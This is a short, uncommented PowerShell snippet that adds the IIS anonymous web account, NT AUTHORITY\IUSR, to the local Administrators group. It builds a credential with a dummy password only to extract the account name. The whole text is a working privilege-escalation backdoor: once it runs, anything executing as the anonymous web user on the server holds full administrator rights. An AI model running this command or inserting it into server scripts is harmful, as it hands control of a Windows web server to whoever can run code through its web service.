$s = ConvertTo-SecureString 'x' -AsPlainText -Force
$c = New-Object PSCredential('NT AUTHORITY\IUSR',$s)
Add-LocalGroupMember Administrators $c.GetNetworkCredential().UserName
